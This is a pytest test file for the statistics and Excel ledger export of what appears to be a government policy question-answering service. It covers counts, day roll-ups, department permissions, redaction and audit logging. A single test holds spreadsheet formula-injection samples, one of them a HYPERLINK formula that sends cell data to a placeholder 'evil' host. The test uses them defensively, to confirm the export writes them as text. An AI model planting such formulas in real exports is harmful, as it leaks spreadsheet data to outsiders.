"""Figures counted by hand on a small journal, and the ledger read back."""

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from time import perf_counter

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, insert

from kb.answers import Answer, AnswerKind, Citation, Clarifying, Ending, Option
from kb.citizens.journal import FeedbackReason, Journal
from kb.citizens.left_questions import Questions
from kb.errors import InputError, NotAllowedError
from kb.knowledge_base import KnowledgeBase
from kb.queue.grouping import Grouping
from kb.queue.worklist import Queue
from kb.reports.days import Days
from kb.reports.figures import FigureReader, Figures
from kb.reports.growth import Growing, grown
from kb.reports.ledger import COLUMNS, Ledger, file_name
from kb.reports.tallies import Times
from kb.staff.audit import Audit
from kb.staff.permissions import Role, Staff
from kb.storage import tables
from kb.storage.database import open_database
from kb.storage.queue_tables import figures_days

DAY = date(2024, 5, 10)
NOON = datetime(2024, 5, 10, 4, 0, tzinfo=UTC)  # noon in China
CENTRE = Staff(name="centre", title="数字中心", role=Role.ADMIN)
WANG = Staff(name="wang", title="王芳", role=Role.REVIEWER, departments=("区民政局",))
ANSWERER = Staff(name="li", title="李强", role=Role.ANSWERER)
REFUSAL = "目前收录的文件里没有查到。"


@dataclass(frozen=True)
class Records:
    """A journal, and the parts that read it."""

    engine: Engine
    journal: Journal
    questions: Questions
    queue: Queue
    audit: Audit

    def record(
        self,
        question: str,
        ending: Ending = Ending.QUOTED,
        at: datetime = NOON,
        took: float = 100.0,
        departments: tuple[str, ...] = ("区民政局",),
        people: int = 1,
        **more: object,
    ) -> str:
        kinds = {Ending.QUOTED: AnswerKind.EXTRACT, Ending.FAQ: AnswerKind.FAQ}
        answer = Answer(
            question=question,
            rewritten=question,
            kind=kinds.get(ending, AnswerKind.REFUSED),
            ending=ending,
            confidence=0.5,
            departments=departments,
            timings_ms={"embed": 1.0, "total": took},
            **{"text": REFUSAL, **more},
        )
        ids = [self.journal.record(answer, None, at, address=f"192.0.2.{number}") for number in range(people)]
        return ids[0]

    def leave(self, text: str, answer_id: str | None, at: datetime = NOON) -> str:
        return self.questions.leave(text, "13812345678", answer_id, ("区民政局",), at).code

    def figures(self, staff: Staff = CENTRE, since: date = DAY, until: date = DAY) -> Figures:
        return FigureReader(self.engine, self.queue).figures(staff, since, until, NOON)

    def ledger(
        self,
        file: Path,
        staff: Staff = CENTRE,
        since: date = DAY,
        until: date = DAY,
        department: str | None = None,
    ) -> list[dict]:
        """The rows of the ledger as Excel reads them."""
        export(Ledger(self.engine, self.audit, file.parent), file, staff, since, until, department)
        (entry,) = self.audit.entries(1)
        assert entry.after is not None
        row_count = entry.after["rows"]
        rows = list(load_workbook(file).active.iter_rows(values_only=True))
        assert rows[0] == tuple(COLUMNS)
        assert len(rows) == row_count + 1
        return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def export(
    ledger: Ledger, file: Path, staff: Staff, since: date, until: date, department: str | None = None
) -> int:
    """Write the ledger to `file`; the number of pieces it came in."""
    pieces = list(ledger.export(staff, since, until, NOON, department))
    file.write_bytes(b"".join(pieces))
    return len(pieces)


@pytest.fixture
def records(tmp_path: Path, kb: KnowledgeBase) -> Records:
    engine = open_database(tmp_path / "kb.sqlite")
    audit = Audit(engine)
    queue = Queue(engine, Grouping(engine, "bundled", kb.embedder.embed_queries), audit, lambda: ())
    return Records(engine, Journal(engine), Questions(engine, 7), queue, audit)


def test_figures_equal_counts_made_by_hand(records: Records):
    helped = records.record("低保怎么申请？", took=50)
    records.journal.feedback(helped, True, None, None, NOON)
    records.record("低保怎麼申請", Ending.FAQ, took=70, departments=("区民政局", "区财政局"))
    wrong = records.record("低保标准是多少？", took=90)
    records.journal.feedback(wrong, False, FeedbackReason.OUTDATED, None, NOON)
    records.record("小学怎么报名？", Ending.NO_HITS, took=110, departments=())
    left = records.record("怎么办离婚登记？", Ending.WEAK_EVIDENCE, took=130)
    records.leave("怎么办离婚登记？", left)
    records.leave("老年证怎么办理？", None)
    records.record("几点上班？", Ending.CLOSED, took=5, departments=())
    figures = records.figures()
    total = figures.total
    assert (total.asked, total.answered, total.refused, total.handed_over, total.closed) == (7, 3, 1, 2, 1)
    assert (total.helpful, total.unhelpful, total.helpful_share) == (1, 1, 0.5)
    assert (total.p50_ms, total.p95_ms) == (80.0, 125.0)  # of 5, 50, 70, 90, 110, 130
    assert [(row.department, row.counts.asked) for row in figures.departments] == [
        ("区民政局", 5),
        ("（未归口）", 2),
        ("区财政局", 1),
    ]
    assert figures.most_asked == ()  # nothing was asked by several people
    assert {(group.text, group.asked) for group in figures.write_next} == {
        ("低保标准是多少？", 1),
        ("小学怎么报名？", 1),
        ("怎么办离婚登记？", 1),
        ("老年证怎么办理？", 1),
    }


def test_questions_asked_back_are_counted_beside_the_outcomes(records: Records):
    back = Clarifying(
        question="您想了解低保的哪一方面？", options=(Option(label="申请条件", question="低保的申请条件"),)
    )
    records.record("低保", clarifying=back, people=2)
    helped = records.record("医保由谁缴费", clarifying=back)
    records.journal.feedback(helped, True, None, None, NOON)
    records.record("低保怎么申请？")
    total = records.figures().total
    assert (total.asked, total.answered, total.asked_back, total.helpful) == (4, 4, 3, 1)


def test_figures_list_every_day_in_china_time(records: Records):
    midnight = datetime(2024, 5, 9, 16, 0, tzinfo=UTC)
    for at in (midnight - timedelta(seconds=1), midnight, midnight + timedelta(days=1)):
        records.record("低保怎么申请？", at=at)
    days = records.figures(since=date(2024, 5, 8), until=date(2024, 5, 11)).days
    assert [(day.day.day, day.counts.asked) for day in days] == [(8, 0), (9, 1), (10, 1), (11, 1)]
    assert records.figures().total.asked == 1


def test_figures_of_staff_cover_their_departments_and_none(records: Records):
    records.record("低保怎么申请？", departments=("区民政局", "区财政局"), people=3)
    records.record("小学怎么报名？", departments=("区教体局",), people=3)
    records.record("你好", Ending.NO_HITS, departments=(), people=3)
    figures = records.figures(WANG)
    assert figures.total.asked == 6
    assert {department.department for department in figures.departments} == {"区民政局", "（未归口）"}
    assert {question.text for question in figures.most_asked} == {"低保怎么申请？", "你好"}


def test_figures_and_ledger_limited_to_one_department(records: Records, tmp_path: Path):
    records.record("低保怎么申请？", departments=("区民政局", "区财政局"))
    records.record("怎么办离婚登记？", Ending.NO_HITS)
    records.record("小学怎么报名？", Ending.NO_HITS, departments=("区教体局",))
    records.record("你好", Ending.NO_HITS, departments=())
    records.leave("老年证怎么办理？", None)
    reader = FigureReader(records.engine, records.queue)
    figures = reader.figures(CENTRE, DAY, DAY, NOON, "区民政局")
    assert (figures.total.asked, figures.total.refused, figures.total.handed_over) == (3, 1, 1)
    without_entry = {"怎么办离婚登记？", "老年证怎么办理？"}
    assert {group.text for group in figures.write_next} == without_entry
    with pytest.raises(NotAllowedError, match="属于区教体局"):
        reader.figures(WANG, DAY, DAY, NOON, "区教体局")
    rows = records.ledger(tmp_path / "a.xlsx", department="区教体局")
    assert [row["问题（已脱敏）"] for row in rows] == ["小学怎么报名？"]
    with pytest.raises(NotAllowedError, match="属于区教体局"):
        records.ledger(tmp_path / "b.xlsx", WANG, department="区教体局")


def test_grown_sorts_words_by_significance_of_growth():
    once = ["小学报名要什么材料", "小学报名时间", "小学报名", "公租房"]
    times = [Times(text, 1, 1, 0, 1) for text in once] + [Times("低保怎么申请", 11, 11, 10, 9)]
    assert grown(times) == (
        Growing(word="小学", now=3, before=0),
        Growing(word="报名", now=3, before=0),
        Growing(word="低保", now=11, before=10),
        Growing(word="申请", now=11, before=10),
    )


def test_growing_compares_last_thirty_days_with_thirty_before(records: Records):
    for days in (0, 10, 29, 30, 59, 60):
        records.record("小学报名", at=NOON - timedelta(days=days), people=3)
    assert Growing(word="小学", now=9, before=6) in records.figures().growing


@pytest.mark.hostile
def test_what_fewer_than_three_people_ask_is_neither_most_asked_nor_growing(records: Records):
    for hour in range(10):
        records.record("张三家的低保", at=NOON + timedelta(hours=hour), people=2)
    records.record("低保怎么申请？", people=3)
    records.record("低保怎麼申請", people=4)
    figures = records.figures()
    assert [(question.text, question.times) for question in figures.most_asked] == [("低保怎么申请？", 7)]
    assert "张三" not in figures.model_dump_json(exclude={"write_next"})


@pytest.mark.parametrize(
    ("since", "told"),
    [(DAY + timedelta(days=1), "早于开始日期"), (DAY - timedelta(days=366), "最多 366 天")],
    ids=["backwards", "too long"],
)
def test_invalid_period_is_refused(records: Records, tmp_path: Path, since: date, told: str):
    with pytest.raises(InputError, match=told):
        records.figures(since=since)
    with pytest.raises(InputError, match=told):
        records.ledger(tmp_path / "a.xlsx", since=since)


def test_ledger_lists_outcome_of_each_question(records: Records, kb: KnowledgeBase, tmp_path: Path):
    document = kb.storage.documents.summaries()[0]
    with records.engine.begin() as connection, kb.storage.engine.connect() as source:
        row = source.execute(tables.documents.select().where(tables.documents.c.id == document.id)).mappings()
        connection.execute(insert(tables.documents).values(**row.one()))
    cited = Citation(
        document=document.title,
        document_id=document.id,
        number=document.number,
        section="",
        page=None,
        quote="原话",
        start=0,
        end=2,
        url="/doc",
        chunk_id=None,
    )
    judged = records.record("我的电话13812345678，低保标准？", text="每人每月 735 元。", citations=(cited,))
    records.journal.feedback(judged, False, FeedbackReason.OUTDATED, "涨了", NOON)
    refused = records.record("怎么办离婚登记？", Ending.NO_HITS, NOON + timedelta(minutes=1), 1234)
    code = records.leave("怎么办离婚登记？", refused, NOON + timedelta(minutes=2))
    replied = NOON + timedelta(days=2, hours=3, minutes=2)
    records.questions.reply(code, "到婚姻登记处。", "区民政局", "王芳", replied)
    records.leave("老年证怎么办理？", None)
    records.record("明天的问题", at=NOON + timedelta(days=1))
    first, second, third = records.ledger(tmp_path / "a.xlsx")
    number = f"（{document.number}）" if document.number else ""
    assert first == {
        "时间": "2024-05-10 12:00:00",
        "问题（已脱敏）": "我的电话〔电话号码〕，低保标准？",
        "答复方式": "引用原文",
        "答复内容": "每人每月 735 元。",
        "依据文件": f"《{document.title}》{number}",
        "部门": "区民政局",
        "是否有用": "没帮助",
        "原因": "内容过时；涨了",
        "转办/留言状态": None,
        "答复时间": "2024-05-10 12:00:00",
        "时长": "0.10 秒",
    }
    assert (second["答复方式"], second["转办/留言状态"]) == ("人工答复", "已答复")
    assert second["答复内容"] == f"{REFUSAL}\n【人工答复：区民政局 王芳】到婚姻登记处。"
    assert (second["答复时间"], second["时长"]) == ("2024-05-12 15:02:00", "2 天 3 小时")
    assert (third["问题（已脱敏）"], third["转办/留言状态"], third["答复时间"]) == (
        "老年证怎么办理？",
        "等待答复",
        None,
    )
    assert "13812345678" not in str([first, second, third])
    assert code.replace("-", "") not in str([first, second, third]).replace("-", "")


FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "=1\x0b2\x00")


def test_ledger_writes_formulas_as_text(records: Records, tmp_path: Path):
    for formula in FORMULAS:
        records.record(formula, text=formula)
    file = tmp_path / "a.xlsx"
    records.ledger(file)
    for row in load_workbook(file).active.iter_rows(min_row=2):
        for cell in (row[1], row[3]):
            assert cell.value[0] in "=+-@"
            assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_ledger_export_needs_permission_and_is_audited(records: Records, tmp_path: Path):
    records.record("小学怎么报名？", departments=("区教体局",))
    records.record("低保怎么申请？")
    with pytest.raises(NotAllowedError, match="不能导出台账"):
        records.ledger(tmp_path / "a.xlsx", ANSWERER)
    assert [row["问题（已脱敏）"] for row in records.ledger(tmp_path / "a.xlsx", WANG)] == ["低保怎么申请？"]
    (entry,) = records.audit.entries(5)
    assert (entry.actor, entry.action, entry.subject) == ("wang", "导出台账", "2024-05-10 至 2024-05-10")
    assert entry.after is not None and entry.after["rows"] == 1
    assert file_name(DAY, DAY) == "政策问答台账_20240510-20240510.xlsx"


def fill(engine: Engine, count: int) -> None:
    """A journal of `count` questions in sixty days."""
    texts = ("低保怎么申请？", "小学怎么报名？", "公租房申请条件", "老年证怎么办理？")
    rows: Sequence[dict[str, object]] = [
        {
            "id": f"a{number}",
            "asked_at": NOON - timedelta(minutes=number * 86_400 // count),
            "question": f"{texts[number % 4]}{number}",
            "key": f"k{number}",
            "rewritten": "",
            "kind": "extract",
            "ending": "quoted",
            "confidence": 0.5,
            "text": "每人每月 735 元。" * 10,
            "documents": [],
            "departments": ["区民政局"],
            "took_ms": float(number % 300),
        }
        for number in range(count)
    ]
    with engine.begin() as connection:
        connection.execute(insert(tables.asked), rows)


def test_counted_days_give_the_figures_of_the_journal(records: Records):
    for days in range(5):
        at = NOON - timedelta(days=days)
        answered = records.record("低保怎么申请？", at=at, people=3, took=100.0 + days)
        records.journal.feedback(answered, days % 2 == 0, None, None, at)
        refused = records.record("怎么办离婚登记？", Ending.NO_HITS, at, departments=("区民政局", "区财政局"))
        records.leave("怎么办离婚登记？", refused, at)
        records.leave("老年证怎么办理？", None, at)
        records.record("你好", Ending.NO_HITS, at, departments=())
    since = DAY - timedelta(days=6)
    before, own_before = records.figures(since=since), records.figures(WANG, since)
    assert Days(records.engine).roll_up(NOON) == 4  # today is not over
    assert Days(records.engine).roll_up(NOON) == 0
    after, own_after = records.figures(since=since), records.figures(WANG, since)
    for counted, read in ((after, before), (own_after, own_before)):
        assert _numbers(counted) == _numbers(read)
        assert counted.total.p95_ms == pytest.approx(read.total.p95_ms, rel=0.05)
        assert counted.most_asked == read.most_asked
    assert after.total.asked == 6 * 5


def _numbers(figures: Figures) -> list[object]:
    """Everything that is counted, without the times that answers took."""
    times = {"p50_ms", "p95_ms"}
    counts = [figures.total, *(day.counts for day in figures.days), *(d.counts for d in figures.departments)]
    return [figures.growing, [d.department for d in figures.departments]] + [
        each.model_dump(exclude=times) for each in counts
    ]


def test_counted_day_is_counted_again_after_a_late_judgement(records: Records):
    yesterday = NOON - timedelta(days=1)
    answered = records.record("低保怎么申请？", at=yesterday)
    refused = records.record("怎么办离婚登记？", Ending.NO_HITS, yesterday)
    days, since = Days(records.engine), DAY - timedelta(days=1)
    days.roll_up(NOON)
    assert (records.figures(since=since).total.helpful, records.figures(since=since).total.refused) == (0, 1)
    records.journal.feedback(answered, True, None, None, NOON)
    records.leave("怎么办离婚登记？", refused, NOON)
    for _ in range(2):  # read from the journal, then counted again
        total = records.figures(since=since).total
        assert (total.asked, total.helpful, total.handed_over, total.refused) == (2, 1, 1, 0)
        days.roll_up(NOON)
    assert days.roll_up(NOON) == 0


def test_judgement_of_a_day_that_was_never_counted_is_in_its_numbers(records: Records):
    answered, since = records.record("低保怎么申请？", at=NOON - timedelta(days=1)), DAY - timedelta(days=1)
    records.journal.feedback(answered, True, None, None, NOON)
    with records.engine.connect() as connection:
        (kept,) = connection.execute(figures_days.select()).all()
    assert (kept.changes, kept.counted, kept.counts) == (1, None, None)
    for due in (1, 0):  # from the journal, then counted
        assert records.figures(since=since).total.helpful == 1
        assert Days(records.engine).roll_up(NOON) == due


def test_question_without_a_word_is_counted(records: Records, monkeypatch: pytest.MonkeyPatch):
    records.record("", Ending.NO_HITS, at=NOON - timedelta(days=1), people=3)
    monkeypatch.setattr("kb.reports.figures.LONG", 0)
    for due in (1, 0):
        assert records.figures(since=DAY - timedelta(days=1)).total.asked == 3
        assert Days(records.engine).roll_up(NOON) == due


@pytest.mark.sqlite  # PostgreSQL takes no such row
def test_day_that_cannot_be_counted_holds_up_no_other(records: Records, caplog: pytest.LogCaptureFixture):
    for days in (1, 2, 3):
        records.record(f"低保{days}", at=NOON - timedelta(days=days))
    with records.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE asked SET departments = '破' WHERE question = '低保2'")
    assert Days(records.engine).roll_up(NOON) == 2
    assert "2024-05-08" in caplog.text


def test_ledger_that_nobody_reads_on_holds_no_snapshot(records: Records, tmp_path: Path):
    records.record("低保怎么申请？")
    pieces = Ledger(records.engine, records.audit, tmp_path).export(CENTRE, DAY, DAY, NOON)
    records.engine.dispose()  # and every connection that is not in use
    assert records.engine.pool.checkedout() == 0
    assert b"".join(pieces).startswith(b"PK")


def test_numbers_outlast_the_questions_and_wordings_do_not(records: Records):
    old, since = NOON - timedelta(days=200), DAY - timedelta(days=300)
    records.record("张三家的低保", at=old, people=3)
    records.record("低保怎么申请？", people=3)
    days = Days(records.engine)
    days.roll_up(NOON)
    assert records.journal.purge(NOON - timedelta(days=180)) == 3
    days.roll_up(NOON)
    figures = records.figures(since=since)
    assert figures.total.asked == 6
    assert [question.text for question in figures.most_asked] == ["低保怎么申请？"]
    with records.engine.connect() as connection:
        kept = connection.execute(figures_days.select()).all()
    assert "张三" not in str(kept)
    assert kept


def test_wordings_of_a_long_period_are_those_of_the_journal(
    records: Records, monkeypatch: pytest.MonkeyPatch
):
    for days in (0, 3, 10, 35, 40):
        records.record("小学报名", at=NOON - timedelta(days=days), people=4)
        records.record("低保怎么申请？", at=NOON - timedelta(days=days), people=2)
        records.record("低保怎麼申請", at=NOON - timedelta(days=days), people=3, departments=())
    records.record("张三家的低保", people=2)
    records.leave("小学报名", None, NOON - timedelta(days=3))
    since = DAY - timedelta(days=100)
    read, own_read = records.figures(since=since), records.figures(WANG, since)
    monkeypatch.setattr("kb.reports.figures.LONG", 0)
    for _ in range(2):  # from the journal, then from what the days keep
        assert records.figures(since=since).most_asked == read.most_asked
        assert records.figures(since=since).growing == read.growing
        assert records.figures(WANG, since).most_asked == own_read.most_asked
        Days(records.engine).roll_up(NOON)
    assert [question.text for question in read.most_asked] == ["低保怎么申请？", "小学报名"]


@pytest.mark.slow
def test_ledger_and_figures_of_100_000_questions(records: Records, tmp_path: Path):
    fill(records.engine, 100_000)
    begun = perf_counter()
    ledger = Ledger(records.engine, records.audit, tmp_path)
    pieces = export(ledger, tmp_path / "a.xlsx", CENTRE, DAY - timedelta(days=60), DAY)
    print(f"ledger {perf_counter() - begun:.1f} s in {pieces} pieces")
    assert pieces > 1
    assert load_workbook(tmp_path / "a.xlsx", read_only=True).active.max_row in (None, 100_001)
    begun = perf_counter()
    figures = records.figures(since=DAY - timedelta(days=60))
    print(f"figures {perf_counter() - begun:.1f} s")
    assert figures.total.asked == 100_000
